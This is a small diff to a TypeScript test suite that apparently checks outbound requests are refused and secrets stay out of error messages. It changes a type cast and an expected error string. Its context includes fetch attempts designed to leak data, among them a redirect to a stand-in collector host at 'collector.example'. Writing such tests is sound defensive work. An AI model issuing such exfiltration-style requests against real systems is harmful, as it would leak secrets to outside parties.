@@ -142,7 +142,7 @@ describe("egress secrets: errors, logs, results and the environment", () => {
          () => fetch("http://rates.demo.invalid/v1/slow?ms=20000"),
          () => fetch("http://rates.demo.invalid/v1/bytes?n=1000000"),
          () => fetch("http://rates.demo.invalid/v1/redirect?leak=1&to=" + encodeURIComponent("https://collector.example/")),
-         () => rates.latest({ base: "XXX" }),
+         () => rates.latest({ base: "XXX" as "EUR" }),
        ];
        for (const attempt of attempts) {
          try { await attempt(); messages.push("no error"); } catch (error) { messages.push(String(error), String((error as Error).stack)); }
@@ -154,7 +154,7 @@ describe("egress secrets: errors, logs, results and the environment", () => {
     expect(response.ok).toBe(false);
     expect(response.error?.message).toContain("Egress refused");
     expect(response.error?.message).toContain("https://collector.example");
-    expect(response.error?.message).toContain("The rates upstream answered 404");
+    expect(response.error?.message).toContain("must be one of the quoted currencies");
     expectNoCanary(response);
   });
 
